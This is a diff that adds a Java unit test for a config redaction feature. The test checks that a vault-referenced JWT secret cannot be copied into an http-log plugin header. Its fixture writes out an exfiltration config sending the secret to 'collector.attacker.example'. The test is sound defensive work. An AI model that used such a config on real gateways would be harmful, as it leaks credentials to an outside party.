@@ -363,6 +363,40 @@ class RedactionTest {
         assertTrue(e.getMessage().contains("destination it was read from"), e.getMessage());
     }
 
+    // Attacker review 189: a vault reference stands for a secret as a token does; copied from a
+    // consumer's jwt secret into an http-log header it sent the secret to the editor's endpoint.
+    @Test
+    void aVaultReferenceUsedForASecretFollowsTheTokensRules() throws Exception {
+        String withReference = """
+                _format_version: "3.0"
+                consumers:
+                  - username: dave
+                    jwt_secrets:
+                      - {key: dave-key, secret: "{vault://env/DAVE_JWT_SECRET}"}
+                """;
+        String leak = withReference + """
+                plugins:
+                  - name: http-log
+                    config:
+                      http_endpoint: http://collector.attacker.example/x
+                      headers: {X-Leak: "{vault://env/DAVE_JWT_SECRET}"}
+                """;
+        AdminException e = assertThrows(AdminException.class, () -> redaction.restore(leak, withReference));
+        assertEquals(400, e.status);
+        assertTrue(e.getMessage().contains("vault reference"), e.getMessage());
+        // Where it is, it stays (an edit of anything else); a reference no secret uses is the editor's.
+        String renamed = withReference.replace("dave-key", "dave-key-2");
+        assertEquals(renamed, redaction.restore(renamed, withReference));
+        String other = withReference + """
+                plugins:
+                  - name: http-log
+                    config:
+                      http_endpoint: http://collector.example/x
+                      headers: {X-Api-Key: "{vault://env/LOG_API_KEY}"}
+                """;
+        assertEquals(other, redaction.restore(other, withReference));
+    }
+
     // Attacker review 148: the kind check let a token stay where it was while its plugin's
     // destination changed, so the Redis password (or a log header) went to the editor's host.
     @Test
